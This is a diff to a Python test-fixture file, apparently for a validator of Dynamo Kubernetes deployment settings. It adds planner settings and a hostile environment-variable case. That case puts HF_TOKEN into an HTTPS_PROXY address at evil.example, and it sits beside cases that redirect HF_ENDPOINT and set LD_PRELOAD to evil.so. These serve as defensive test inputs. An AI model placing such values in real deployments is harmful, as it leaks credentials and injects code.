@@ -88,6 +88,19 @@ PLAIN: dict[str, dict[str, Any]] = {
     "the documents' cache": {"modelCache": {"pvcName": "models", "pvcMountPath": "/home/dynamo/.cache/huggingface"}},
     "a cache by custom": {"modelCache": {"pvcName": "models", "mountPath": "/mnt/models-2/a.b/"}},
     "Dynamo's image": {"image": "nvcr.io/nvidia/ai-dynamo/dynamo-planner:1.6.1"},
+    "a planner's targets": {
+        "features": {
+            "planner": {
+                "enabled": True,
+                "ttft": 200,
+                "itlMs": 20,
+                "planner_adjustment_interval": 60,
+                "plannerMinEndpoint": 2,
+                "load_predictor": "arima",
+                "advisory": True,
+            }
+        }
+    },
     "everything else": {
         "backend": "vllm",
         "searchStrategy": "rapid",
@@ -177,6 +190,7 @@ SECRETS_BY_ENV: dict[str, dict[str, Any]] = {
     "a Secret's key": {"name": "X", "valueFrom": {"secretKeyRef": SECRET | {"key": "HF_TOKEN"}}},
     "by a harmless name": {"name": "HTTPS_PROXY", "valueFrom": {"secretKeyRef": SECRET | {"key": "HF_TOKEN"}}},
     "another server for the token": {"name": "HF_ENDPOINT", "value": "https://evil.example"},
+    "a secret in a proxy's address": {"name": "HTTPS_PROXY", "value": "http://$(HF_TOKEN):x@evil.example:3128"},
     "what the loader loads": {"name": "LD_PRELOAD", "value": "/data/evil.so"},
 }
 UNLOCKED: dict[str, Any] = {
